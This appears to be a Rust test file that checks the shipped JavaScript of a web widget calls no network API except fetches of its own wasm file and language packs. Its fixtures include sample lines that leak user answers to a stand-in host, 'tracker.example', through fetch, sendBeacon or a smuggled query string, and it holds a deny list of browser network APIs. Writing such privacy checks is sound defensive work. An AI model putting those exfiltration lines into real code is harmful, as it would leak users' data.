//! Static check of what ships: neither the loader nor the generated
//! wasm-bindgen glue may call a network API, except the `fetch` that loads
//! the widget's own wasm file (started by the loader, which hands the
//! response to the glue) and the one that loads a language pack from the
//! widget's own `lang/` folder by its tag. The configurator's glue and its
//! start script are held to the same: its glue loads its own wasm, nothing else.
use ims_checker_e2e::dist_dir;

const NETWORK_APIS: [&str; 6] = [
    "fetch(",
    "XMLHttpRequest",
    "sendBeacon",
    "WebSocket",
    "EventSource",
    "navigator.connection",
];

/// Every place a network API appears in `source`, with a little context.
fn network_calls(source: &str) -> Vec<String> {
    let mut found = Vec::new();
    for api in NETWORK_APIS {
        for (at, _) in source.match_indices(api) {
            let start = source[..at].char_indices().rev().nth(40).map_or(0, |(i, _)| i);
            let end = source[at..]
                .char_indices()
                .nth(60)
                .map_or(source.len(), |(i, _)| at + i);
            found.push(source[start..end].replace('\n', " "));
        }
    }
    found
}

/// The only network calls allowed: wasm-bindgen's init fetching the wasm
/// file whose URL it is given (`module_or_path`), the loader fetching the
/// wasm by its literal name in the widget's own folder, and the loader
/// fetching a pack as `"lang/" + tag + ".json"` there (`url(...)` resolves a
/// name against the loader's address; its name is mangled in dist/). Which
/// tags are asked for, and that nothing else is, the privacy tests check in
/// the browser.
fn is_an_own_file_load(context: &str) -> bool {
    let own_file = context.split("fetch(").nth(1).is_some_and(|call| {
        let (helper, rest) = call.split_once('(').unwrap_or(("", ""));
        let quoted = |name: &str| rest.starts_with(&format!("\"{name}\")")) || rest.starts_with(&format!("'{name}')"));
        let pack = ["\"lang/\"+", "'lang/'+"].iter().any(|start| {
            rest.strip_prefix(start).is_some_and(|tail| {
                let (tag, after) = tail.split_once('+').unwrap_or(("", ""));
                is_identifier(tag) && (after.starts_with("\".json\")") || after.starts_with("'.json')"))
            })
        });
        is_identifier(helper) && (quoted("pkg/ims-checker_bg.wasm") || pack)
    });
    context.contains("fetch(module_or_path)") || own_file
}

fn is_identifier(name: &str) -> bool {
    !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '$')
}

#[test]
fn the_glue_and_loader_call_no_network_api_but_the_wasm_load() {
    let dist = dist_dir().expect("dist");
    for file in [
        "pkg/ims-checker.js",
        "ims-checker.js",
        "configure/ims-checker-configurator.js",
        "configure/configure.js",
    ] {
        let path = dist.join(file);
        let source = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        let calls: Vec<String> = network_calls(&source)
            .into_iter()
            .filter(|c| !is_an_own_file_load(c))
            .collect();
        assert!(calls.is_empty(), "{file} can call a network API:\n{}", calls.join("\n"));
    }
}

#[test]
fn the_check_catches_a_network_call_in_glue() {
    let bad = "function f(){ return fetch('https://tracker.example/' + answers); }\nexport function g(){ navigator.sendBeacon('/x', data); }";
    let calls = network_calls(bad);
    assert_eq!(calls.len(), 2, "{calls:?}");
    assert!(calls.iter().all(|c| !is_an_own_file_load(c)));
    let wasm_load = "if (typeof module_or_path === 'string') { module_or_path = fetch(module_or_path); }";
    assert!(network_calls(wasm_load).iter().all(|c| is_an_own_file_load(c)));
    let loader = "const w=fetch(o(\"pkg/ims-checker_bg.wasm\"));w.catch(()=>{});";
    assert!(network_calls(loader).iter().all(|c| is_an_own_file_load(c)));
    let pack = "n.set(e,fetch(t(\"lang/\"+e+\".json\")).then(t=>t.text()))";
    assert!(network_calls(pack).iter().all(|c| is_an_own_file_load(c)));
    for other in [
        "const w=fetch(o(\"pkg/ims-checker_bg.wasm\"+answers));",
        "const w=fetch(o(\"https://tracker.example/\"));",
        "const w=fetch(\"pkg/ims-checker_bg.wasm\");",
        "n.set(e,fetch(t(\"lang/\"+e+\".json?\"+answers)))",
        "n.set(e,fetch(t(\"lang/\"+JSON.stringify(answers)+\".json\")))",
        "n.set(e,fetch(t(\"https://tracker.example/lang/\"+e+\".json\")))",
    ] {
        assert!(network_calls(other).iter().all(|c| !is_an_own_file_load(c)), "{other}");
    }
}
